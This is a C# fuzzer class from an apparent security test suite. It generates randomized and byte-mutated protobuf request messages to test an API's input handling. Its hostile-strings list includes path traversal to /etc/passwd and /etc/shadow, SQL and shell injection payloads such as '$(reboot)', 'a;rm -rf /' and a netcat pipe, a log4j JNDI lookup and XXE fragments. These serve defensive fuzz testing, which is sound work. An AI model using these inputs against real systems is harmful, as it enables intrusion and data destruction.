using System.Collections;
using Google.Protobuf;
using Google.Protobuf.Reflection;

namespace NodeAgent.Tests.Security;

/// <summary>
/// Makes request messages to throw at an API: random messages of a type built from its descriptor (every field set or
/// not, with hostile values: path traversal, XML and shell metacharacters, NUL, huge and negative numbers, enormous
/// strings, out-of-range enums and times), and byte-level mutations of them (flips, cuts, splices, random bytes).
/// Seeded: a failing case is found again with the same seed.
/// </summary>
/// <remarks>
/// Half of the messages are plausible instead: names the scheduler knows, small numbers, defined enum values. A hostile
/// value in any field is usually refused at once; plausible ones reach the placement, quota, lease and token logic behind.
/// </remarks>
internal sealed class MessageFuzzer(Random random, IReadOnlyList<string> plausibleStrings)
{
    private static readonly long[] PlausibleIntegers = [0, 1, 2, 4, 60, 600, 3600, 86_400, 1L << 20, 1L << 30, 4L << 30];

    private bool _plausible;

    private static readonly string[] HostileStrings =
    [
        "", "a", "h1", "default", "debian-12", "w-aaaaaaaaaa", "*", ".", "..", "../../../../etc/passwd", "/etc/shadow", "images/../../x",
        "<domain type='kvm'><name>x</name></domain>", "]]><!--", "&xxe;", "'; DROP TABLE leases; --", "\" OR 1=1 --", "$(reboot)", "`id`",
        "a;rm -rf /", "a|nc x 1", "a\0b", "\0", "\n", "line\r\nheader: x", "%s%s%n", "${jndi:ldap://x/a}", "CON", "\u202e\u0644", "ü",
        "A-UPPER", "-leading-dash", "name with spaces", "nat_0123456789abcdef_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "ssh-ed25519 AAAA", "10.0.0.1", "999.1.1.1", "fe80::1%eth0", "sha256:zz", new string('x', 300), new string('y', 70_000),
        "rack=r1", "=", "a=b=c", "2027-01-01T00:00:00Z", "-1", "18446744073709551616",
    ];

    private static readonly long[] HostileIntegers =
        [0, 1, -1, 2, 63, 64, 1000, 4095, 4096, 65535, 65536, int.MaxValue, int.MinValue, uint.MaxValue, long.MaxValue, long.MinValue, 1L << 40, 315_537_897_599, -62_135_596_801];

    public byte[] Next(MessageDescriptor type)
    {
        _plausible = random.Next(2) == 0;
        var message = Random(type, depth: 0);
        var bytes = message.ToByteArray();
        return !_plausible && random.Next(3) == 0 ? Mutate(bytes) : bytes;
    }

    private IMessage Random(MessageDescriptor type, int depth)
    {
        var message = type.Parser.ParseFrom(ByteString.Empty);
        foreach (var field in type.Fields.InDeclarationOrder())
        {
            if (random.Next(3) == 0 || (field.FieldType == FieldType.Message && depth >= 3))
            {
                continue;
            }

            if (field.IsMap)
            {
                var map = (IDictionary)field.Accessor.GetValue(message);
                var key = field.MessageType.FindFieldByNumber(1);
                var value = field.MessageType.FindFieldByNumber(2);
                for (var i = random.Next(4); i > 0; i--)
                {
                    map[Value(key, depth + 1)] = Value(value, depth + 1);
                }
            }
            else if (field.IsRepeated)
            {
                var list = (IList)field.Accessor.GetValue(message);
                for (var i = random.Next(5) == 0 ? random.Next(200) : random.Next(4); i > 0; i--)
                {
                    list.Add(Value(field, depth + 1));
                }
            }
            else
            {
                field.Accessor.SetValue(message, Value(field, depth + 1));
            }
        }

        return message;
    }

    private object Value(FieldDescriptor field, int depth)
    {
        var integer = _plausible ? PlausibleIntegers[random.Next(PlausibleIntegers.Length)]
            : random.Next(4) == 0 ? random.NextInt64() * (random.Next(2) == 0 ? 1 : -1) : HostileIntegers[random.Next(HostileIntegers.Length)];
        var enumValue = field.FieldType != FieldType.Enum ? 0
            : _plausible || random.Next(4) != 0 ? field.EnumType.Values[random.Next(field.EnumType.Values.Count)].Number : random.Next(-5, 1000);
        return field.FieldType switch
        {
            FieldType.String => _plausible ? plausibleStrings[random.Next(plausibleStrings.Count)] : HostileStrings[random.Next(HostileStrings.Length)],
            FieldType.Bytes => ByteString.CopyFrom(RandomBytes(random.Next(64))),
            FieldType.Bool => random.Next(2) == 0,
            FieldType.Double => new[] { 0.0, -1.0, 1e308, double.NaN, double.PositiveInfinity, double.NegativeInfinity, 0.5 }[random.Next(7)],
            FieldType.Float => new[] { 0f, -1f, 3e38f, float.NaN, float.NegativeInfinity, 0.5f }[random.Next(6)],
            FieldType.Int32 or FieldType.SInt32 or FieldType.SFixed32 => unchecked((int)integer),
            FieldType.UInt32 or FieldType.Fixed32 => unchecked((uint)integer),
            FieldType.Int64 or FieldType.SInt64 or FieldType.SFixed64 => integer,
            FieldType.UInt64 or FieldType.Fixed64 => unchecked((ulong)integer),
            FieldType.Enum => Enum.ToObject(field.EnumType.ClrType, enumValue),
            FieldType.Message or FieldType.Group => Random(field.MessageType, depth),
            _ => throw new NotSupportedException(field.FieldType.ToString()),
        };
    }

    private byte[] Mutate(byte[] bytes)
    {
        var mutated = new List<byte>(bytes);
        for (var i = 1 + random.Next(4); i > 0; i--)
        {
            switch (random.Next(5))
            {
                case 0 when mutated.Count > 0:
                    var at = random.Next(mutated.Count);
                    mutated[at] ^= (byte)(1 << random.Next(8));
                    break;
                case 1 when mutated.Count > 0:
                    // Cut the tail off at a random point.
                    var cut = random.Next(mutated.Count);
                    mutated.RemoveRange(cut, mutated.Count - cut);
                    break;
                case 2:
                    mutated.InsertRange(random.Next(mutated.Count + 1), RandomBytes(1 + random.Next(16)));
                    break;
                case 3 when mutated.Count > 0:
                    mutated[random.Next(mutated.Count)] = (byte)new[] { 0x00, 0x7f, 0x80, 0xff, 0x0a, 0x12, 0x1a }[random.Next(7)];
                    break;
                default:
                    mutated.AddRange(RandomBytes(random.Next(32)));
                    break;
            }
        }

        return [.. mutated];
    }

    private byte[] RandomBytes(int length)
    {
        var bytes = new byte[length];
        random.NextBytes(bytes);
        return bytes;
    }
}
